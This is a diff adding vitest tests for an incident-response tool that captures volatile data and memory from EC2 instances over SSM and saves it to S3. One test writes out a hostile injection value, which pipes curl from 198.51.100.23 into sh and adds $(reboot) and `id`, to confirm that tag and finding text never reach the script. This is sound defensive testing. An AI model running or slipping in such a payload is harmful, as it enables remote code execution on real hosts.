@@ -1,0 +1,541 @@
+import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { gzipSync } from 'node:zlib';
+import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
+import { DescribeInstanceInformationCommand, GetCommandInvocationCommand, SendCommandCommand, SSMClient } from '@aws-sdk/client-ssm';
+import { mockClient } from 'aws-sdk-client-mock';
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import type { Config } from '../../../../shared/config/index.ts';
+import type { StepOutcome } from '../../../../shared/engine/index.ts';
+import { StepFailedError } from '../../../../shared/errors/index.ts';
+import {
+  captureMemory,
+  captureVolatileData,
+  decodeCaptureOutput,
+  LINUX_VOLATILE_SCRIPT,
+  WINDOWS_VOLATILE_SCRIPT,
+  type IsolationEgress,
+} from '../../../../shared/steps/ec2/index.ts';
+import { aConfig, anIncident, anInstance, aStepContext, awsError, EVIDENCE_BUCKET, FIXED_NOW, INSTANCE_ID, motoNotImplemented, VPC_ID } from '../../helpers/factories.ts';
+
+const ssmMock = mockClient(SSMClient);
+const s3Mock = mockClient(S3Client);
+afterEach(() => {
+  ssmMock.reset();
+  s3Mock.reset();
+  vi.useRealTimers();
+});
+
+const COMMAND_ID = '2d2b7c8e-0d6a-4a53-9f3e-5c1b0a9e8d7f';
+const MEMORY_COMMAND = 'avml /tmp/mem.lime && aws s3 cp /tmp/mem.lime "$FIREBREAK_MEMORY_S3_URI/mem.lime"';
+
+const onlineConfig = (onlineCapture: Partial<Config['ec2']['onlineCapture']> = {}): Config =>
+  aConfig({ ec2: { onlineCapture: { enabled: true, waitSeconds: 0, ...onlineCapture } } });
+
+const isolated = (egress?: IsolationEgress): Record<string, StepOutcome> => ({
+  isolateNetworkInterfaces: { stage: 'contain', status: 'done', summary: 'isolated', attempts: 1, data: { vpcId: VPC_ID, ...(egress ? { egress } : {}) } },
+});
+
+const ssmRoute: IsolationEgress = {
+  allowed: [{ protocol: 'tcp', port: 443, groupId: 'sg-0e0e0e0e0e0e0e0e0' }],
+  ssmEndpointIds: ['vpce-0a0a0a0a0a0a0a0a0', 'vpce-0b0b0b0b0b0b0b0b0'],
+  reason: 'HTTPS to the SSM interface endpoints',
+};
+
+const online = (PlatformType: 'Linux' | 'Windows' = 'Linux') =>
+  ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'Online', PlatformType }] });
+
+/** What the Linux script prints: the collection gzipped and base64-encoded, between markers. */
+const encodedStdout = (text: string) => `FIREBREAK-BEGIN gzip+base64\n${gzipSync(Buffer.from(text)).toString('base64').replace(/(.{76})/g, '$1\n')}\nFIREBREAK-END\n`;
+
+const COLLECTED = '\n===== date (UTC) =====\nThu Jun 19 15:00:00 UTC 2025\n\n===== processes (ps auxww) =====\nroot 1 0.0 /sbin/init\nwww 4242 99.0 ./xmrig -o pool.example:3333\n';
+
+const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
+
+describe('Step: captureVolatileData', () => {
+  it('is skipped when online capture is not configured', async () => {
+    // Prepare
+    const ctx = aStepContext();
+
+    // Act
+    const result = await captureVolatileData.run(ctx);
+
+    // Assess
+    expect(result).toEqual({ status: 'skipped', summary: 'volatile data capture is not configured (ec2.onlineCapture.enabled is false)' });
+    expect(ssmMock.calls()).toHaveLength(0);
+  });
+
+  it('records that capture was not possible when isolation left the SSM agent no route', async () => {
+    // Prepare
+    online();
+    const egress: IsolationEgress = { allowed: [], ssmEndpointIds: [], reason: `no SSM interface endpoints in ${VPC_ID}` };
+    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated(egress) });
+
+    // Act
+    const result = await captureVolatileData.run(ctx);
+
+    // Assess
+    expect(result.status).toBe('skipped');
+    expect(result.summary).toBe(`capture was not possible: isolation leaves the SSM agent no route (no SSM interface endpoints in ${VPC_ID})`);
+    expect(ssmMock.calls()).toHaveLength(0);
+  });
+
+  it('treats an isolation recorded without an egress record as leaving no route', async () => {
+    // Prepare
+    online();
+    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated() });
+
+    // Act
+    const result = await captureVolatileData.run(ctx);
+
+    // Assess
+    expect(result.summary).toBe(`capture was not possible: isolation leaves the SSM agent no route (the isolation group of ${VPC_ID} allows no egress)`);
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+
+  it('is skipped when SSM does not manage the instance', async () => {
+    // Prepare
+    ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [] });
+    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute) });
+
+    // Act
+    const result = await captureVolatileData.run(ctx);
+
+    // Assess
+    expect(ssmMock.commandCalls(DescribeInstanceInformationCommand)[0]!.args[0].input).toEqual({ Filters: [{ Key: 'InstanceIds', Values: [INSTANCE_ID] }] });
+    expect(result.status).toBe('skipped');
+    expect(result.summary).toBe(`capture was not possible: ${INSTANCE_ID} is not managed by SSM (no agent registered, or its instance profile lacks the SSM permissions)`);
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+
+  it('is skipped when the SSM agent is not online, saying when it was last seen', async () => {
+    // Prepare
+    ssmMock.on(DescribeInstanceInformationCommand).resolves({
+      InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'ConnectionLost', LastPingDateTime: new Date('2025-06-19T14:41:00Z'), PlatformType: 'Linux' }],
+    });
+    const ctx = aStepContext({ config: onlineConfig() });
+
+    // Act
+    const result = await captureVolatileData.run(ctx);
+
+    // Assess
+    expect(result.status).toBe('skipped');
+    expect(result.summary).toBe(`capture was not possible: the SSM agent on ${INSTANCE_ID} is ConnectionLost; last ping 2025-06-19T14:41:00.000Z`);
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+
+  it('says when containment also took the agent\'s credentials away', async () => {
+    // Prepare
+    ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'ConnectionLost', PlatformType: 'Linux' }] });
+    const outcomes: Record<string, StepOutcome> = {
+      ...isolated(ssmRoute),
+      replaceInstanceProfile: { stage: 'contain', status: 'done', summary: 'profile removed', attempts: 1 },
+      revokeInstanceRoleSessions: { stage: 'contain', status: 'skipped', summary: 'role shared', attempts: 1 },
+    };
+
+    // Act
+    const result = await captureVolatileData.run(aStepContext({ config: onlineConfig(), outcomes }));
+
+    // Assess
+    expect(result.summary).toBe(
+      `capture was not possible: the SSM agent on ${INSTANCE_ID} is ConnectionLost (replaceInstanceProfile also cut the agent's role credentials: give the isolation profile AmazonSSMManagedInstanceCore, or enable Default Host Management Configuration)`,
+    );
+  });
+
+  it('runs the Linux script, decodes its gzip+base64 output and saves the text as evidence with its SHA-256', async () => {
+    // Prepare
+    online('Linux');
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED), ResponseCode: 0 });
+    s3Mock.on(PutObjectCommand).resolves({ VersionId: 'v1' });
+    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute) });
+
+    // Act
+    const result = await captureVolatileData.run(ctx);
+
+    // Assess
+    const sent = ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input;
+    expect(sent).toEqual({
+      DocumentName: 'AWS-RunShellScript',
+      InstanceIds: [INSTANCE_ID],
+      Comment: `Firebreak ${ctx.incident.incidentId}: volatile data`,
+      TimeoutSeconds: 3600,
+      Parameters: { commands: [...LINUX_VOLATILE_SCRIPT], executionTimeout: ['600'] },
+    });
+    expect(ssmMock.commandCalls(GetCommandInvocationCommand)[0]!.args[0].input).toEqual({ CommandId: COMMAND_ID, InstanceId: INSTANCE_ID });
+    const put = s3Mock.commandCalls(PutObjectCommand)[0]!.args[0].input;
+    const key = `incidents/${ctx.incident.incidentId}/online/volatile-data.txt`;
+    expect(put).toMatchObject({ Bucket: EVIDENCE_BUCKET, Key: key, ContentType: 'text/plain; charset=utf-8' });
+    expect(Buffer.from(put.Body as Buffer).toString('utf8')).toBe(COLLECTED);
+    const ref = { bucket: EVIDENCE_BUCKET, key, sha256: sha256(COLLECTED), bytes: Buffer.byteLength(COLLECTED), versionId: 'v1' };
+    expect(result).toEqual({
+      status: 'done',
+      summary: `volatile data of ${INSTANCE_ID} captured by Run Command ${COMMAND_ID} (${ref.bytes} bytes, sha256 ${ref.sha256.slice(0, 12)}…)`,
+      data: { commandId: COMMAND_ID, platform: 'Linux', bytes: ref.bytes, truncated: false, format: 'gzip+base64' },
+      evidence: [ref],
+    });
+  });
+
+  it('gathers every section the playbook names, compressed to fit the stdout limit', () => {
+    // Prepare
+    const script = LINUX_VOLATILE_SCRIPT.join('\n');
+
+    // Act
+    const sections = [...script.matchAll(/section '([^']+)'/g)].map((m) => m[1]);
+
+    // Assess
+    expect(sections).toEqual([
+      'date (UTC)',
+      'uptime',
+      'uname -a',
+      'hostname',
+      'processes (ps auxww)',
+      'network connections',
+      'listening sockets',
+      'addresses (ip addr)',
+      'routes (ip route)',
+      'logged-in users (who -a)',
+      'logged-in users (w)',
+      'last logins (last -n 50)',
+      'open network files (lsof -i -n -P, first 1000 lines)',
+      'crontabs',
+      'kernel modules',
+      // Last, because Run Command keeps only the start of stdout.
+      'files changed in the last 24 hours in /tmp /var/tmp /dev/shm /root /home /etc (first 500)',
+      'files changed in the last 24 hours on the root filesystem (first 2000)',
+    ]);
+    expect(script).toContain('if have ss; then ss -tupan; else run netstat -tupan; fi');
+    expect(script).toContain('-xdev \\( -path /proc -o -path /sys -o -path /dev -o -path /run \\) -prune -o -type f \\( -mmin -1440 -o -cmin -1440 \\)');
+    expect(script).toContain('recent / | head -n 2000');
+    expect(script).toContain('collect 2>&1 | gzip -9 -c | base64');
+  });
+
+  it('sends a shell script that parses', () => {
+    // Act
+    const check = spawnSync('sh', ['-n'], { input: LINUX_VOLATILE_SCRIPT.join('\n'), encoding: 'utf8' });
+
+    // Assess
+    expect(check.stderr).toBe('');
+    expect(check.status).toBe(0);
+  });
+
+  it('uses the PowerShell document for a Windows instance', async () => {
+    // Prepare
+    online('Windows');
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout('\r\n===== processes =====\r\nsvchost\r\n').replace(/\n/g, '\r\n') });
+    s3Mock.on(PutObjectCommand).resolves({});
+    const ctx = aStepContext({ config: onlineConfig() });
+
+    // Act
+    const result = await captureVolatileData.run(ctx);
+
+    // Assess
+    const sent = ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input;
+    expect(sent.DocumentName).toBe('AWS-RunPowerShellScript');
+    expect(sent.Parameters).toEqual({ commands: [...WINDOWS_VOLATILE_SCRIPT], executionTimeout: ['600'] });
+    const script = WINDOWS_VOLATILE_SCRIPT.join('\n');
+    for (const needle of ['Win32_Process', 'Get-NetTCPConnection', 'quser', 'Get-ChildItem', 'Select-Object -First 2000']) expect(script).toContain(needle);
+    expect(result.data).toMatchObject({ platform: 'Windows', format: 'gzip+base64' });
+    expect(Buffer.from(s3Mock.commandCalls(PutObjectCommand)[0]!.args[0].input.Body as Buffer).toString()).toBe('\r\n===== processes =====\r\nsvchost\r\n');
+  });
+
+  it('keeps polling through InvocationDoesNotExist, about once a second, within the configured wait', async () => {
+    // Prepare
+    vi.useFakeTimers();
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock
+      .on(GetCommandInvocationCommand)
+      .rejectsOnce(awsError('InvocationDoesNotExist'))
+      .resolvesOnce({ Status: 'InProgress' })
+      .resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });
+    s3Mock.on(PutObjectCommand).resolves({});
+    const ctx = aStepContext({ config: onlineConfig({ waitSeconds: 5 }) });
+
+    // Act
+    const run = captureVolatileData.run(ctx);
+    await vi.advanceTimersByTimeAsync(1999);
+    const pollsBeforeTwoSeconds = ssmMock.commandCalls(GetCommandInvocationCommand).length;
+    await vi.advanceTimersByTimeAsync(1);
+    const result = await run;
+
+    // Assess
+    expect(pollsBeforeTwoSeconds).toBe(2);
+    expect(ssmMock.commandCalls(GetCommandInvocationCommand)).toHaveLength(3);
+    expect(result.status).toBe('done');
+  });
+
+  it('is pending with the command id while the command runs, and the next delivery polls that command without sending another', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
+    s3Mock.on(PutObjectCommand).resolves({});
+    const first = aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute) });
+
+    // Act
+    const pending = await captureVolatileData.run(first);
+    ssmMock.resetHistory();
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });
+    const previous: StepOutcome = { stage: 'evidence', status: 'pending', summary: pending.summary, attempts: 1, data: pending.data! };
+    const done = await captureVolatileData.run(aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute), previous }));
+
+    // Assess
+    expect(pending).toEqual({
+      status: 'pending',
+      retryAfterSeconds: 60,
+      summary: `Run Command ${COMMAND_ID} (volatile data) on ${INSTANCE_ID} is InProgress; looking again in 60s`,
+      data: { commandId: COMMAND_ID, sentAt: FIXED_NOW.toISOString(), platform: 'Linux' },
+    });
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
+    expect(ssmMock.commandCalls(DescribeInstanceInformationCommand)).toHaveLength(0);
+    expect(ssmMock.commandCalls(GetCommandInvocationCommand).map((c) => c.args[0].input)).toEqual([{ CommandId: COMMAND_ID, InstanceId: INSTANCE_ID }]);
+    expect(done).toMatchObject({ status: 'done', data: { commandId: COMMAND_ID } });
+  });
+
+  it('is pending when SSM does not show the invocation yet', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).rejects(awsError('InvocationDoesNotExist'));
+
+    // Act
+    const result = await captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+
+    // Assess
+    expect(result).toMatchObject({ status: 'pending', retryAfterSeconds: 60, data: { commandId: COMMAND_ID } });
+  });
+
+  it('fails permanently with the status and an excerpt of stderr when the command fails', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Failed', StatusDetails: 'Failed', ResponseCode: 127, StandardErrorContent: `sh: gzip: Permission denied\n${'x'.repeat(2000)}` });
+
+    // Act
+    const run = captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+
+    // Assess
+    await expect(run).rejects.toBeInstanceOf(StepFailedError);
+    await expect(run).rejects.toMatchObject({ step: 'captureVolatileData', code: 'CommandFailed', retryable: false });
+    const error = (await run.catch((e: unknown) => e)) as Error;
+    expect(error.message).toContain(`Run Command ${COMMAND_ID} on ${INSTANCE_ID} ended Failed, exit code 127; stderr: sh: gzip: Permission denied`);
+    expect(error.message.length).toBeLessThan(800);
+    expect(s3Mock.calls()).toHaveLength(0);
+  });
+
+  it('fails permanently when the command timed out', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'TimedOut', StatusDetails: 'DeliveryTimedOut', ResponseCode: -1 });
+
+    // Act
+    const run = captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+
+    // Assess
+    await expect(run).rejects.toMatchObject({ code: 'CommandTimedOut', retryable: false, message: expect.stringContaining('ended TimedOut (DeliveryTimedOut)') });
+  });
+
+  it('lets the error of an endpoint that does not implement DescribeInstanceInformation through', async () => {
+    // Prepare
+    ssmMock.on(DescribeInstanceInformationCommand).rejects(motoNotImplemented('DescribeInstanceInformation'));
+
+    // Act
+    const run = captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+
+    // Assess
+    await expect(run).rejects.toMatchObject({ name: 'InternalFailure' });
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+
+  it('never puts hostile tag values, instance names or finding text into the script', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
+    const hostile = "x'; curl -s http://198.51.100.23/p.sh | sh; echo '$(reboot)`id`";
+    const ctx = aStepContext({
+      config: onlineConfig(),
+      incident: anIncident({ title: hostile, remoteIps: [hostile] }),
+      resource: anInstance({ tags: { Name: hostile, [hostile]: hostile }, keyName: hostile }),
+    });
+
+    // Act
+    await captureVolatileData.run(ctx);
+
+    // Assess
+    const input = ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input;
+    const everything = JSON.stringify(input);
+    expect(everything).not.toContain('198.51.100.23');
+    expect(everything).not.toContain('reboot');
+    expect(input.Parameters!.commands).toEqual([...LINUX_VOLATILE_SCRIPT]);
+  });
+});
+
+describe('Step: captureMemory', () => {
+  it('is skipped when no memory capture command is configured, even with online capture on', async () => {
+    // Prepare
+    const ctx = aStepContext({ config: onlineConfig() });
+
+    // Act
+    const result = await captureMemory.run(ctx);
+
+    // Assess
+    expect(result).toEqual({ status: 'skipped', summary: 'memory capture is not configured (no ec2.onlineCapture.memoryCaptureCommand)' });
+    expect(ssmMock.calls()).toHaveLength(0);
+  });
+
+  it('is skipped when online capture is off, even with a command configured', async () => {
+    // Prepare
+    const ctx = aStepContext({ config: onlineConfig({ enabled: false, memoryCaptureCommand: MEMORY_COMMAND }) });
+
+    // Act
+    const result = await captureMemory.run(ctx);
+
+    // Assess
+    expect(result.status).toBe('skipped');
+    expect(ssmMock.calls()).toHaveLength(0);
+  });
+
+  it('records that capture was not possible when isolation left the SSM agent no route', async () => {
+    // Prepare
+    const egress: IsolationEgress = { allowed: [], ssmEndpointIds: [], reason: `no SSM interface endpoints in ${VPC_ID}` };
+    const ctx = aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }), outcomes: isolated(egress) });
+
+    // Act
+    const result = await captureMemory.run(ctx);
+
+    // Assess
+    expect(result.summary).toBe(`capture was not possible: isolation leaves the SSM agent no route (no SSM interface endpoints in ${VPC_ID})`);
+    expect(ssmMock.calls()).toHaveLength(0);
+  });
+
+  it('runs the configured command with its output going to the incident folder of the evidence bucket, tracked to completion', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
+    const config = onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND });
+    const ctx = aStepContext({ config, outcomes: isolated(ssmRoute) });
+    const prefix = `incidents/${ctx.incident.incidentId}/online/memory`;
+
+    // Act
+    const pending = await captureMemory.run(ctx);
+    ssmMock.resetHistory();
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', ResponseCode: 0 });
+    const previous: StepOutcome = { stage: 'evidence', status: 'pending', summary: pending.summary, attempts: 1, data: pending.data! };
+    const done = await captureMemory.run(aStepContext({ config, outcomes: isolated(ssmRoute), previous }));
+
+    // Assess
+    expect(pending).toMatchObject({ status: 'pending', retryAfterSeconds: 60, data: { commandId: COMMAND_ID } });
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
+    expect(done).toEqual({
+      status: 'done',
+      summary: `memory capture command ${COMMAND_ID} succeeded on ${INSTANCE_ID}; its output and dump are under s3://${EVIDENCE_BUCKET}/${prefix}/`,
+      data: { commandId: COMMAND_ID, s3Prefix: `s3://${EVIDENCE_BUCKET}/${prefix}/`, note: expect.stringContaining('needs a route to S3') },
+    });
+  });
+
+  it('sends the configured command verbatim, after the destination variables, on AWS-RunShellScript', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
+    const ctx = aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }), resource: anInstance({ tags: { Name: '$(reboot)' } }) });
+    const prefix = `incidents/${ctx.incident.incidentId}/online/memory`;
+
+    // Act
+    await captureMemory.run(ctx);
+
+    // Assess
+    expect(ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input).toEqual({
+      DocumentName: 'AWS-RunShellScript',
+      InstanceIds: [INSTANCE_ID],
+      Comment: `Firebreak ${ctx.incident.incidentId}: memory`,
+      TimeoutSeconds: 3600,
+      OutputS3BucketName: EVIDENCE_BUCKET,
+      OutputS3KeyPrefix: prefix,
+      Parameters: {
+        commands: [
+          `FIREBREAK_INCIDENT_ID='${ctx.incident.incidentId}'; export FIREBREAK_INCIDENT_ID`,
+          `FIREBREAK_MEMORY_S3_URI='s3://${EVIDENCE_BUCKET}/${prefix}'; export FIREBREAK_MEMORY_S3_URI`,
+          MEMORY_COMMAND,
+        ],
+        executionTimeout: ['3600'],
+      },
+    });
+  });
+
+  it('is skipped on Windows, where the configured shell command cannot run', async () => {
+    // Prepare
+    online('Windows');
+    const ctx = aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }) });
+
+    // Act
+    const result = await captureMemory.run(ctx);
+
+    // Assess
+    expect(result.status).toBe('skipped');
+    expect(result.summary).toBe(`capture was not possible: the memory capture command is a shell command and ${INSTANCE_ID} runs Windows`);
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
+  });
+
+  it('fails permanently when the memory capture command fails', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Failed', ResponseCode: 1, StandardErrorContent: 'avml: command not found' });
+
+    // Act
+    const run = captureMemory.run(aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }) }));
+
+    // Assess
+    await expect(run).rejects.toMatchObject({ step: 'captureMemory', code: 'CommandFailed', retryable: false, message: expect.stringContaining('avml: command not found') });
+  });
+});
+
+describe('Function: decodeCaptureOutput', () => {
+  it('recovers what a truncated gzip+base64 stream holds and says it was truncated', () => {
+    // Prepare
+    const long = Array.from({ length: 4000 }, (_, n) => `line ${n} ${createHash('md5').update(String(n)).digest('hex')}`).join('\n');
+    const stdout = encodedStdout(long).slice(0, 24_000);
+
+    // Act
+    const decoded = decodeCaptureOutput(`${stdout}\n---Output truncated---`);
+
+    // Assess
+    expect(decoded.format).toBe('gzip+base64');
+    expect(decoded.truncated).toBe(true);
+    expect(decoded.text.length).toBeGreaterThan(1000);
+    expect(long.startsWith(decoded.text)).toBe(true);
+  });
+
+  it('reads plain output between the markers', () => {
+    // Act
+    const decoded = decodeCaptureOutput('noise\nFIREBREAK-BEGIN plain\r\nhello\r\nFIREBREAK-END\r\n');
+
+    // Assess
+    expect(decoded).toEqual({ text: 'hello\n', format: 'plain', truncated: false });
+  });
+
+  it('keeps output without markers as it came', () => {
+    // Act
+    const decoded = decodeCaptureOutput('sh: 1: collect: not found\n');
+
+    // Assess
+    expect(decoded).toEqual({ text: 'sh: 1: collect: not found\n', format: 'raw', truncated: false });
+  });
+
+  it('keeps the stdout as it came when the compressed part cannot be read', () => {
+    // Prepare
+    const stdout = 'FIREBREAK-BEGIN gzip+base64\nbm90IGd6aXA=\nFIREBREAK-END\n';
+
+    // Act
+    const decoded = decodeCaptureOutput(stdout);
+
+    // Assess
+    expect(decoded).toEqual({ text: stdout, format: 'raw', truncated: false });
+  });
+});
